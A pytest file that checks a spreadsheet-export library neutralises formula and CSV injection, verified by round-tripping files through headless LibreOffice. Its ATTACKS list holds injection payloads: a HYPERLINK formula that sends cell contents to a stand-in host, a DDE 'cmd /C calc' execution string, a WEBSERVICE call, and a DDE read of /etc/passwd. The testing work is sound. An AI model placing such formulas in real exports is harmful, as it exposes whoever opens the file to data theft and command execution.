"""Workbooks and CSV files as a real spreadsheet reads them: LibreOffice opens each, and openpyxl reads what it saves."""

# ruff: noqa: DTZ001 - Excel's moments have no zone

from __future__ import annotations

import csv
import datetime as dt
import re
import subprocess
from decimal import Decimal

import numpy as np
import openpyxl
import pandas as pd
import pyarrow as pa
import pytest

import origami_widgets as ow
from origami_widgets.api.errors import InvalidInput
from origami_widgets.frames.files.xlsx_files import sheet_name
from tests.fixtures.hostile import CORPUS
from tests.frames.files.test_export import FORMULAS, HARMLESS, INSIDE

WORKBOOK = "xlsx:Calc MS Excel 2007 XML"
TWO = dt.timezone(dt.timedelta(hours=2))
EMOJI = "\U0001f600"
TEXTS = {
    "markup of xlsxwriter": "<r><t>x</t></r>",
    "markup that breaks out": "<r></si><evil></r>",
    "an escape of Excel": "_x0041_",
    "controls": "a\x01b\x0bc\x1f",
    "no characters": "\ufffe\uffff",
    "half an emoji": "\ud83d!",
    "ends of lines": "a\tb\r\nc\rd\n",
    "blanks": "  sp  ",
    "apostrophe": "'quoted",
    "address": "https://evil.example/",
    "mail": "mailto:a@b.example",
    "leading zero": "0123",
    "a number": "1e5",
    "a boolean": "TRUE",
    "a date": "2026-01-01",
    "too long": "x" * 40_000,
    "emoji count twice": EMOJI * 16_384,
    "half of the last one": "x" + EMOJI * 16_383 + "x",
}
SHOWN = {
    "half an emoji": "\ufffd!",
    "ends of lines": "a\tb\nc\nd\n",
    "too long": "x" * 32_767,
    "emoji count twice": EMOJI * 16_383,
    "half of the last one": "x" + EMOJI * 16_383,
}
VALUES = {
    "true": (True, True),
    "false": (np.bool_(False), False),
    "one": (1, 1),
    "numpy": (np.int64(-7), -7),
    "fifteen digits": (999_999_999_999_999, 999_999_999_999_999),
    "sixteen digits": (9_007_199_254_740_993, "9007199254740993"),
    "negative": (-9_007_199_254_740_993, "-9007199254740993"),
    "beyond 64 bits": (2**70, str(2**70)),
    "a tenth": (0.1, 0.1),
    "large": (1e300, 1e300),
    "small": (-1e-300, -1e-300),
    "infinite": (float("inf"), "inf"),
    "not a number": (float("nan"), None),
    "NA": (pd.NA, None),
    "NaT": (pd.NaT, None),
    "decimal": (Decimal("1.25"), 1.25),
    "long decimal": (Decimal("1.234567890123456789"), "1.234567890123456789"),
    "day": (dt.date(2026, 1, 2), dt.datetime(2026, 1, 2)),
    "day before Excel": (dt.date(1899, 12, 31), "1899-12-31"),
    "time": (dt.time(12, 30), "12:30:00"),
    "duration": (dt.timedelta(hours=30, minutes=5), dt.timedelta(hours=30, minutes=5)),
    "no duration": (-dt.timedelta(minutes=5), "-1 day, 23:55:00"),
    "zone": (dt.datetime(2026, 1, 2, 3, 4, 5, tzinfo=TWO), dt.datetime(2026, 1, 2, 1, 4, 5)),
    "timestamp": (pd.Timestamp("2026-01-02T03:04:05.250+02:00"), dt.datetime(2026, 1, 2, 1, 4, 5, 250_000)),
    "1970": (pd.Timestamp("1970-01-01", tz="UTC"), dt.datetime(1970, 1, 1)),
    "first day": (dt.datetime(1900, 3, 1), dt.datetime(1900, 3, 1)),
    "before the 29 February that was none": (dt.datetime(1900, 2, 28), "1900-02-28 00:00:00"),
    "year 1": (dt.datetime(1, 1, 1), "0001-01-01 00:00:00"),
    "year 9999": (dt.datetime(9999, 12, 31, 23, 59, 59, 999_999), dt.datetime(9999, 12, 31, 23, 59, 59)),
    "list": (["=1", {"a": 1}], '["=1", {"a": 1}]'),
    "object": ({"k": None}, '{"k": null}'),
    "array": (np.array([1, 2]), "[1, 2]"),
}


@pytest.fixture(scope="module")
def office(tmp_path_factory):
    """Converts a file by LibreOffice, with a profile of its own; gives what it has made."""
    home = tmp_path_factory.mktemp("office")

    def convert(file, to=WORKBOOK, *options):
        into = home / f"{len(list(home.iterdir()))}"
        command = ["soffice", f"-env:UserInstallation={(home / 'profile').as_uri()}", "--headless", *options]
        done = subprocess.run(
            [*command, "--convert-to", to, "--outdir", str(into), str(file)],
            capture_output=True,
            text=True,
            check=False,
            timeout=120,
        )
        made = sorted(into.glob("*")) if into.exists() else []
        assert made, done.stdout + done.stderr
        return made

    return convert


def cells(sheet):
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def formulas(file):
    """All that a workbook would compute. LibreOffice saves a boolean as a call without arguments."""
    return [
        cell.value
        for sheet in openpyxl.load_workbook(file)
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" and cell.value not in ("=TRUE()", "=FALSE()")
    ]


def decoded(text):
    """Excel's escapes for characters that XML cannot hold, which openpyxl leaves as they are."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), text)


@pytest.fixture(scope="module")
def book(tmp_path_factory):
    """A workbook of hostile cells."""
    frames = {
        "texts": pd.DataFrame({"text": pd.Series(list(TEXTS.values()), dtype=object)}),
        "values": pd.DataFrame({"value": pd.Series([value for value, _ in VALUES.values()], dtype=object)}),
        "corpus": pd.DataFrame({"text": pd.Series(list(CORPUS.values()), dtype=object)}),
        "formulas": pd.DataFrame({"=1+1": [*FORMULAS, *HARMLESS, *INSIDE]}),
    }
    with pytest.warns(UserWarning, match=r"texts of \w+ were cut"):
        (file,) = ow.export(frames, tmp_path_factory.mktemp("book") / "book.xlsx")
    return file


@pytest.fixture(scope="module")
def read(book, office):
    """The workbook as openpyxl reads it, and as it does after LibreOffice has opened and saved it."""
    (saved,) = office(book)
    return {"written": openpyxl.load_workbook(book), "saved": openpyxl.load_workbook(saved), "file": saved}


def column(read, which, sheet):
    return [row[0] for row in cells(read[which][sheet])[1:]]


@pytest.mark.parametrize("which", ["written", "saved"])
def test_no_cell_is_a_formula_or_a_link(book, read, which):
    assert formulas(book if which == "written" else read["file"]) == []
    for sheet in read[which]:
        assert [cell for row in sheet.iter_rows() for cell in row if cell.hyperlink] == []
    assert read[which].sheetnames == ["texts", "values", "corpus", "formulas"]
    assert {sheet.freeze_panes for sheet in read[which]} == {"A2"}
    assert all(sheet.auto_filter.ref == sheet.dimensions for sheet in read[which])


@pytest.mark.parametrize("which", ["written", "saved"])
def test_texts_are_the_texts(read, which):
    found = dict(zip(TEXTS, column(read, which, "texts"), strict=True))
    for name, text in TEXTS.items():
        expected = SHOWN.get(name, text)
        assert found[name] == expected or decoded(found[name]) == expected, name
    expected = [text.replace("\r\n", "\n").replace("\r", "\n") for text in (*FORMULAS, *HARMLESS, *INSIDE)]
    assert [decoded(text or "") for text in column(read, which, "formulas")] == expected


@pytest.mark.parametrize("which", ["written", "saved"])
def test_hostile_texts_are_the_texts(read, which):
    for (name, text), found in zip(CORPUS.items(), column(read, which, "corpus"), strict=True):
        expected = text.encode("utf-16", "surrogatepass").decode("utf-16", "replace")
        expected = expected.replace("\r\n", "\n").replace("\r", "\n")
        expected = expected.encode("utf-16-le")[: 2 * 32_767].decode("utf-16-le", "ignore")
        # LibreOffice (25) mixes up cells of several lines that are very long.
        if which == "written" or "\n" not in expected or len(expected) < 10_000:
            assert decoded(found or "") == decoded(expected), name


@pytest.mark.parametrize("which", ["written", "saved"])
def test_values_have_their_types(read, which):
    for (name, (_, expected)), cell in zip(VALUES.items(), list(read[which]["values"]["A"])[1:], strict=True):
        found = {"=TRUE()": True, "=FALSE()": False}.get(cell.value, cell.value)
        assert found == expected, name
        assert isinstance(found, bool) == isinstance(expected, bool), name
        if isinstance(expected, float):
            assert cell.data_type == "n"


def test_what_looks_like_a_formula_stays_text_when_it_is_edited(read):
    sheet = read["written"]["formulas"]
    assert sheet["A1"].quotePrefix
    assert sheet["A1"].font.bold
    quoted = {cell.value for cell in sheet["A"][1:] if cell.quotePrefix}
    # The carriage return of one of them has become the end of a line.
    assert quoted >= {text for text in FORMULAS if "\x01" not in text}
    assert not quoted & set(HARMLESS)


@pytest.mark.parametrize("dtype", ["datetime64[us]", pd.ArrowDtype(pa.date32())], ids=str)
def test_dates_are_dates_and_moments_are_moments(tmp_path, dtype):
    days = pd.Series(pd.to_datetime(["2026-07-21", None]).astype("datetime64[us]"))
    moments = pd.Series(pd.to_datetime(["2026-07-21", "2026-07-21T09:14"], format="ISO8601"))
    frame = pd.DataFrame({"day": days.astype(dtype), "moment": moments, "zone": moments.dt.tz_localize("UTC")})
    (file,) = ow.export(frame, tmp_path / "book.xlsx")
    sheet = openpyxl.load_workbook(file).active
    assert [sheet[place].number_format for place in ("A2", "B2")] == ["yyyy-mm-dd", "yyyy-mm-dd hh:mm:ss"]
    assert [cell.value for cell in sheet[1]] == ["day", "moment", "zone (UTC)"]
    (file,) = ow.export(frame, tmp_path, format="csv")
    result = [line.split(",")[0] for line in file.read_text(encoding="utf-8-sig").splitlines()]
    assert result == ["day", "2026-07-21", ""]


def test_a_row_for_the_eye_is_as_wide_as_its_longest_line(tmp_path):
    frame = pd.DataFrame({"short": ["a"], "lines": ["four\n" + "x" * 30], "long": ["y" * 500], "a long heading": [1]})
    (file,) = ow.export(frame, tmp_path / "book.xlsx")
    sheet = openpyxl.load_workbook(file).active
    # Excel adds the space around a character; headings have room for the button of their filter.
    widths = [round(sheet.column_dimensions[letter].width) for letter in "ABCD"]
    assert widths == [10, 33, 51, 19]


@pytest.mark.parametrize(
    ("frame", "words"),
    [
        (pd.DataFrame({"a": np.zeros(1_048_576)}), "1,048,576 rows. A sheet holds 1,048,575 rows"),
        (pd.DataFrame(np.zeros((1, 16_385))), "16,385 columns"),
    ],
    ids=["rows", "columns"],
)
def test_what_no_sheet_holds_is_refused_and_nothing_is_written(tmp_path, frame, words):
    with pytest.raises(InvalidInput, match=words):
        ow.export({"small": pd.DataFrame({"a": [1]}), "huge": frame}, tmp_path / "book.xlsx")
    assert list(tmp_path.iterdir()) == []


NAMES = ["a" * 40, "a" * 40, "A" * 31, "x/y\\z[1]:*?", "", "'", "a'" * 20, "History", "history", "HISTORY", EMOJI * 20, EMOJI * 20, "\x00\ufffe\ud83d", " b "]  # fmt: skip


def test_sheets_have_names_that_excel_takes(tmp_path, office):
    taken = set()
    names = [sheet_name(name, taken) for name in NAMES]
    assert names[:4] == ["a" * 31, "a" * 29 + "_2", "A" * 29 + "_3", "x_y_z_1____"]
    assert names[-1] == "b"
    for name in names:
        assert 0 < len(name.encode("utf-16-le")) <= 62
        assert not re.search(r"[\[\]:*?/\\\x00-\x1f]", name)
        assert name.strip("' ") == name
    assert len({name.lower() for name in names}) == len(NAMES)
    assert "history" not in {name.lower() for name in names}
    parts = [(name, pd.DataFrame({"a": [number]})) for number, name in enumerate(names)]
    (file,) = ow.export(dict(parts), tmp_path / "book.xlsx")
    (saved,) = office(file)
    assert openpyxl.load_workbook(saved).sheetnames == names


def test_texts_that_are_cut_are_counted_at_the_line_that_called(tmp_path):
    with pytest.warns(UserWarning, match="2 texts of frame were cut") as caught:
        ow.export(pd.DataFrame({"a": ["x" * 40_000, "y" * 32_767, "z" * 32_768]}), tmp_path / "book.xlsx")
    assert caught[0].filename == __file__


OPENED_WITH = {"commas": "44", "semicolons": "59", "what LibreOffice proposes": "44/59/9"}
"""The separators that LibreOffice gets; what looks like a formula is computed, as Excel does it."""


def opened(office, file, separators):
    kept = f"Text - txt - csv (StarCalc):{separators},34,76,1,,0,false,true,false,false,false,-1,true"
    return office(file, WORKBOOK, f"--infilter={kept}")


ATTACKS = [
    *FORMULAS, *INSIDE, '=HYPERLINK("http://evil.example/"&A1)', "=cmd|' /C calc'!A0", '=WEBSERVICE("http://evil.example")',
    '=DDE("soffice";"/etc/passwd";"A1")', 'x";=1+1;"', 'x"\n=1+1\n"', '";=1+1', 'a;"=1+1"', "a;;=1+1", "\n=1+1", " \t=1+1",
    "{=1+1}", "a\r=1+1", "\u00a0=1+1", "\ufeff=1+1",
]  # fmt: skip


@pytest.mark.parametrize("separators", OPENED_WITH.values(), ids=OPENED_WITH)
def test_csv_that_is_opened_computes_nothing(tmp_path, office, separators):
    frame = pd.DataFrame({"a": ATTACKS, "=1+2": ATTACKS[::-1]})
    (file,) = ow.export(frame, tmp_path / "safe.csv")
    (saved,) = opened(office, file, separators)
    assert formulas(saved) == []
    (bare,) = ow.export(frame, tmp_path / "bare.csv", neutralize=False)
    (saved,) = opened(office, bare, separators)
    assert len(formulas(saved)) > 5, "LibreOffice computes nothing at all: the test shows nothing"


def test_csv_that_is_opened_has_its_cells(tmp_path, office):
    frame = pd.DataFrame({"a": ["x", "1;2", 'say "ä"', "a\nb", "", "+1 555 0127"], "n": [1, 2, 3, 4, 5, 6]})
    (file,) = ow.export(frame, tmp_path / "file.csv")
    (saved,) = opened(office, file, OPENED_WITH["commas"])
    found = cells(openpyxl.load_workbook(saved).active)
    assert found == [["a", "n"], ["x", 1], ["1;2", 2], ['say "ä"', 3], ["a\nb", 4], [None, 5], ["+1 555 0127", 6]]
    with file.open(encoding="utf-8-sig", newline="") as text:
        assert [row[0] for row in csv.reader(text)] == ["a", *frame["a"]]
